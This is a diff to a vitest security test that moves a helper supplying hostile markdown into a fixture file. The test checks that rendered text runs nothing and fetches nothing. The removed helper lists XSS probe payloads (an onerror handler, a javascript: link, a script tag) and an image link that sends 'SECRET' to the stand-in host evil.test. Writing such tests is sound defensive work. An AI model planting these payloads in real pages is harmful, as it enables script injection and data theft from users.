@@ -1,7 +1,5 @@
-import { readFile } from 'node:fs/promises'
-import { join } from 'node:path'
-import { fileURLToPath } from 'node:url'
 import { expect, test } from 'vitest'
+import { hostileMarkdown } from './__fixtures__/hostile-markdown.js'
 import { ask, setStage } from './__fixtures__/stage.js'
 
 const stage = setStage()
@@ -37,11 +35,3 @@ test('hostile text stays text: nothing runs, nothing is fetched', async () => {
   expect(found.schemes.filter((scheme) => !['http:', 'https:', 'mailto:'].includes(scheme))).toEqual([])
   expect(foreign).toEqual([])
 })
-
-async function hostileMarkdown(): Promise<string[]> {
-  const own = ['<img src=x onerror=alert(1)>', '[x](javascript:alert(1))', '![x](https://evil.test/?q=SECRET)', '<script>alert(1)</script>']
-  const attack = process.env.COACHKIT_ATTACK ?? fileURLToPath(new URL('../../../shared/attack', import.meta.url))
-  const lines = await Promise.all(['markdown_output.jsonl', 'xss_payloads.jsonl'].map((name) => readFile(join(attack, name), 'utf8').catch(() => '')))
-  const rows = lines.flatMap((text) => text.split('\n').filter(Boolean))
-  return [...own, ...rows.map((row) => (JSON.parse(row) as { payload: string }).payload.slice(0, 400))]
-}
